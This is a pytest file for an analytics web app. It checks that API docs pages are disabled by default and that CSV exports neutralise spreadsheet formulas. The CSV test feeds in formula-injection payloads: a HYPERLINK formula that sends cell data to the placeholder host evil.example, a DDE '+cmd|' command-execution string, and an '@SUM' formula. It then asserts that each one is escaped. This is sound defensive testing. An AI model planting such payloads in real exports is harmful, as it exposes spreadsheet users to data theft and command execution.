"""Secure defaults of the HTTP answers that an in-process client shows: API docs off, CSV cells neutralised."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from litestar.testing import TestClient

from application.principals import Principal
from entrypoints.bootstrap import Container, bootstrap
from entrypoints.http.app import create_app
from entrypoints.settings import Settings, load_settings
from tests.fakes import consent, event, feedback

SERVICE = Principal(subject="tests", role="service")


@pytest.fixture
def client(container: Container) -> Iterator[TestClient[Any]]:
    with TestClient(create_app(container, run_jobs=False)) as test_client:
        yield test_client


def test_api_docs_pages_are_off_by_default_and_the_openapi_document_stays(client: TestClient[Any]) -> None:
    """The docs pages load scripts from a public CDN: served only when ADDVALUE_API_DOCS=true."""
    for page in ("/schema", "/schema/swagger", "/schema/redoc", "/schema/elements", "/schema/rapidoc"):
        answer = client.get(page)
        assert answer.status_code == 404 or "html" not in answer.headers["content-type"], page
    document = client.get("/schema/openapi.json")
    assert document.status_code == 200
    assert document.json()["info"]["title"] == "AddValue Analytics"


def test_api_docs_true_serves_the_swagger_page_under_its_own_content_security_policy(settings: Settings) -> None:
    container = bootstrap(msgspec.structs.replace(settings, api_docs=True))
    try:
        with TestClient(create_app(container, run_jobs=False)) as client:
            page = client.get("/schema/swagger")
            assert page.status_code == 200
            assert "html" in page.headers["content-type"]
            assert "https://cdn.jsdelivr.net" in page.headers["content-security-policy"]
            assert "script-src" not in client.get("/health").headers["content-security-policy"]
    finally:
        container.close()


def test_the_api_docs_setting_reads_true_or_false(tmp_path: Path) -> None:
    env = {"ADDVALUE_DATABASE_URL": f"sqlite:///{tmp_path}/addvalue.db"}
    assert load_settings(env).api_docs is False
    assert load_settings({**env, "ADDVALUE_API_DOCS": "true"}).api_docs is True


def test_csv_export_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
    container: Container, client: TestClient[Any]
) -> None:
    person = uuid.uuid4()
    container.ingestion.ingest(
        [
            consent(person, analytics=True),
            feedback(person, '=HYPERLINK("http://evil.example/?"&A1,"click")'),
            event("post_liked", person, {"post_id": "@SUM(1+1)"}, session_id="+cmd|' /C calc'!A0"),
            event("post_liked", person, {"post_id": "-2+3"}),
        ],
        sent_at=None,
        principal=SERVICE,
    )
    me = {"Authorization": f"Bearer {container.tokens.mint(str(person), 'user')}"}
    packed = client.get(f"/api/users/{person}/export?format=zip", headers=me)
    archive = zipfile.ZipFile(io.BytesIO(packed.content))

    def rows(name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(archive.read(f"events/{name}.csv").decode())))

    assert [r["comment"] for r in rows("wave_feedback_submitted")] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    ]
    liked = rows("post_liked")
    assert sorted(r["post_id"] for r in liked) == ["'-2+3", "'@SUM(1+1)"]
    assert "'+cmd|' /C calc'!A0" in {r["session_id"] for r in liked}
    assert [r["rating"] for r in rows("wave_feedback_submitted")] == ["5"]  # numbers stay numbers
    # The JSON document keeps the person's own words exactly.
    bundle = msgspec.json.decode(archive.read("export.json"))
    assert any(e["properties"].get("comment", "").startswith("=HYPERLINK") for e in bundle["events"])
